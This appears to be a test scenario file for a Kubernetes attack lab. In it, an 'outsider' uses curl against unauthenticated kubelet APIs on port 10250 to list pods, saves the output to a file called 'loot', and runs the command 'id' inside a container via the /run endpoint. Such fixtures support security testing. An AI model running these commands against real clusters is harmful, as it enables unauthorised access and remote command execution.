# scene fails order-given (command-in-body): the command is sent in the body, as old notes do
#@ outsider
curl -sk https://node01:10250/pods > loot
curl -sk -X POST https://node01:10250/run/default/web-node01/web -d cmd=id >> loot
curl -sk -w '\n%{http_code}\n' https://node02:10250/pods > guarded
